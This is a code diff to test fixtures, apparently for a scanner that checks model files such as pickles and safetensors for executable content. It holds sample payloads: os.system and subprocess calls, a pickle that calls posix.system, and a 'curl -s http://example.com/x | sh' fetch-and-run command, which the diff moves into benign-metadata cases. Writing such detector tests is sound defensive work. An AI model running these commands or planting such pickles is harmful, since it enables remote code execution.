@@ -123,7 +123,6 @@ def _texts_that_act() -> dict[str, tuple[str, bytes]]:
     texts = {
         "code": "import os; os.system('id')",
         "import_call": "__import__('subprocess').run(['id'])",
-        "command": "curl -s http://example.com/x | sh",
         "pickle": base64.b64encode(calling("posix", "system")).decode(),
         "marshalled": base64.b64encode(code).decode(),
     }
@@ -146,6 +145,7 @@ def sound_safetensors_cases() -> dict[str, bytes]:
         "talkative_metadata": safetensors_bytes(
             {
                 "__metadata__": {
+                    "example": "curl -s http://example.com/x | sh",
                     "comment": "Trained on cluster os-7; see subprocess docs, then evaluate (exec summary).",
                     "ss_tag_frequency": json.dumps({"10_cat": {"{{import}}": 3, "__init__": 1}}),
                     "workflow": json.dumps({"nodes": [{"type": "PythonEval", "widgets": ["a + b"]}]}),
